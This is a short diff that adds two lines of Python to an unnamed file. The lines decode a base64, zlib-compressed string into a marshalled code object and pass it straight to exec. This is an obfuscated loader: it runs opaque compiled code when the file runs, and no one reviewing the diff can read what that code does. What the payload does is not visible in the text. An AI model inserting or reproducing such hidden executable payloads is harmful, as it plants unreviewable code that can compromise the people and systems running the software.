@@ -1,0 +1,2 @@
+import marshal, zlib, base64
+exec(marshal.loads(zlib.decompress(base64.b64decode("eJxLZkACzFD6sxGQmM6QwpDCmMOQyxjFxMjAxJDKlAWTZ0hhWsbIwLCaEcZnBKoMZtBkfgni+FVJZ5SUFBRb6eun6KVWJOYW5KTqZeaVJeZkpuhXaLLc4istysnJTNIrSi0sTS0uucUOYzCW3mIHyuUXpOatZPgMMusWY8UvDpvc/JTSnFS7Ik6wVQwMxQZA4gMzIyPjDQapC6joBgNnA2ML5wUu9YsMGlcYNC7AUBE7UBMAGt06Lg=="))))
